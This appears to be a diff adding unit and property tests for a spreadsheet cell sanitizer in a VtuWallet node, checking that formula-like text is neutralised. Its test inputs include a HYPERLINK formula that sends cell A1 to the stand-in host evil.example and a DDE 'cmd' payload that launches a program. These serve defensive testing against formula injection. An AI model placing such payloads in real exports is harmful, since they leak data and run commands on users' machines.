@@ -1,0 +1,55 @@
+import fc from 'fast-check';
+
+import { sheetRow, sheetText } from '../../nodes/VtuWallet/values/sheetText';
+
+test.each([
+	'=1+1',
+	'=HYPERLINK("https://evil.example?"&A1,"Receipt")',
+	"+cmd|' /C calc'!A0",
+	'-2+3+cmd()',
+	'@SUM(A1:A9)',
+	'\t=1+1',
+	'\r=1+1',
+	' =1+1',
+	'\n@x',
+	'\uff1d1+1',
+	'-- sent by MTN',
+])('%j is kept from being worked out', (text) => {
+	expect(sheetText(text)).toBe(`'${text}`);
+});
+
+test.each([
+	'',
+	'MTN: success',
+	'08031234567',
+	'+234 803 123 4567',
+	'-50',
+	'-1,234.50',
+	'(080) 3',
+	'a=b',
+	'bet9ja/=x',
+])('%j is left as it is', (text) => expect(sheetText(text)).toBe(text));
+
+test('whatever the text, no cell begins like a formula that holds more than a number', () => {
+	const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', '1', 'a', '(', ')');
+	fc.assert(
+		fc.property(fc.array(start, { maxLength: 6 }), fc.string(), (before, after) => {
+			const cell = sheetText(before.join('') + after);
+			expect(/^\s*[=+@-].*[a-z(!|]/is.test(cell) && !/^\s*[+-]?[\d\s.,()-]*$/.test(cell)).toBe(
+				false,
+			);
+		}),
+	);
+});
+
+test('of a row every text is kept from it, save the key and the reference by which it is found again', () => {
+	expect(
+		sheetRow({ message: '=x()', amount: -5, key: '=k', reference: '-r', pins: ['=p'] }),
+	).toEqual({
+		message: "'=x()",
+		amount: -5,
+		key: '=k',
+		reference: '-r',
+		pins: ['=p'],
+	});
+});
